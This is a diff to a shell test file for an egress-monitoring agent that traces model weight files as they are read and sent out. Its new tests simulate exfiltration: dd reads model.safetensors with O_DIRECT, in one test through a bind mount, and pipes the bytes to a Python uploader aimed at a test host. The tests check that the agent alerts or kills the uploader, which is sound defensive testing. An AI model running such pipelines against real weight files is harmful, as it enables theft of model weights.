@@ -8,7 +8,10 @@
 load ../lib/harness
 
 setup() { vigil_setup; }
-teardown() { vigil_teardown; }
+teardown() {
+	if mountpoint -q "$T/bind" 2>/dev/null; then umount "$T/bind"; fi
+	vigil_teardown
+}
 
 BUDGET=$((1 << 20))
 
@@ -244,5 +247,46 @@ small_send() {
 	[ "$relay_rc" -eq 0 ]
 	run alert_wait rule=weights-egress process.cmdline~relay.py taint.chain.1.via=loopback \
 		taint.sources.0.path="$W/model.safetensors"
+	[ "$status" -eq 0 ]
+}
+
+# ---- other read paths -----------------------------------------------------
+
+@test "propagate: monitor: O_DIRECT reads taint (dd iflag=direct | uploader)" {
+	start_sink tcp
+	start_agent --mode monitor
+	run in_cg sh -c 'dd if="$1" iflag=direct bs=1M status=none | python3 "$2" --stdin --host "$3" --port "$4"' \
+		sh "$W/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
+	[ "$status" -eq 0 ]
+	[ "$(sink_bytes)" -eq $((4 << 20)) ]
+	run alert_wait rule=weights-egress taint.sources.0.path="$W/model.safetensors" \
+		taint.sources.0.bytes_read'>='4194304 taint.chain.0.comm=dd taint.chain.0.via=read \
+		taint.chain.1.via=pipe
+	[ "$status" -eq 0 ]
+}
+
+@test "propagate: enforce: O_DIRECT reads taint: the uploader is stopped" {
+	start_sink tcp
+	start_agent --mode enforce
+	run in_cg sh -c 'dd if="$1" iflag=direct bs=1M status=none | python3 "$2" --connect-first --stdin --host "$3" --port "$4"' \
+		sh "$W/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
+	[ "$status" -eq 137 ] || [ "$status" -eq 3 ]
+	[ "$(sink_bytes)" -le "$BUDGET" ]
+	run alert_wait mode=enforce taint.sources.0.path="$W/model.safetensors" \
+		taint.chain.0.comm=dd taint.chain.1.via=pipe action~e
+	[ "$status" -eq 0 ]
+}
+
+@test "propagate: monitor: an O_DIRECT read through a bind mount taints (the real inode)" {
+	start_sink tcp
+	mkdir "$T/bind"
+	mount --bind "$W" "$T/bind"
+	start_agent --mode monitor
+	run in_cg sh -c 'dd if="$1" iflag=direct bs=1M status=none | python3 "$2" --stdin --host "$3" --port "$4"' \
+		sh "$T/bind/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
+	umount "$T/bind"
+	[ "$status" -eq 0 ]
+	run alert_wait rule=weights-egress taint.sources.0.path="$W/model.safetensors" \
+		taint.chain.0.comm=dd
 	[ "$status" -eq 0 ]
 }
